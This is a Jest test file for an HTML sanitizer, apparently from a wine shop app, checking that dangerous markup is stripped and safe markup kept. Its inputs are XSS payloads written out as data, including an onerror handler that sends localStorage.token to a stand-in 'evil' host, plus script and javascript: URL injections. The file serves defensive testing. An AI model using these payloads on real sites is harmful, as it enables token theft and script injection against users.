import { describe, expect, it } from '@jest/globals';
import { safeHtml, safeHtmlTranslations } from './safe-html.js';

describe('safeHtml', () => {
  it('removes scripts, event handlers, javascript: and data: URLs, iframes, styles and forms', () => {
    expect(safeHtml('<p>Red</p><img src=x onerror="fetch(\'//evil/\'+localStorage.token)">')).toBe('<p>Red</p><img src="x" />');
    expect(safeHtml('<script>alert(1)</script><p onclick="x()">ok</p>')).toBe('<p>ok</p>');
    expect(safeHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a rel="noopener noreferrer">x</a>');
    expect(safeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img />');
    expect(safeHtml('<iframe src="https://evil.example"></iframe><style>*{}</style><form><input></form>')).toBe('');
    expect(safeHtml('<svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:1">')).toBe('');
    expect(safeHtml('<p style="background:url(javascript:1)" class="x">a</p>')).toBe('<p>a</p>');
  });

  it('keeps the allowed tags and attributes', () => {
    const ok = '<h2>Notes</h2><p>Deep <strong>red</strong>, <em>ripe</em>.</p><ul><li>a</li></ul><img src="https://cdn.example/a.jpg" alt="Bottle" />';
    expect(safeHtml(ok)).toBe(ok);
    expect(safeHtml('<a href="https://shop.example/x" target="_blank">x</a>')).toBe(
      '<a href="https://shop.example/x" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(safeHtml('Merlot &amp; Cabernet < 20')).toBe('Merlot &amp; Cabernet &lt; 20');
  });

  it('applies to every language of a translated member', () => {
    expect(safeHtmlTranslations({ en: '<b onmouseover=x>A</b>', de: null })).toEqual({ en: '<b>A</b>', de: null });
  });
});
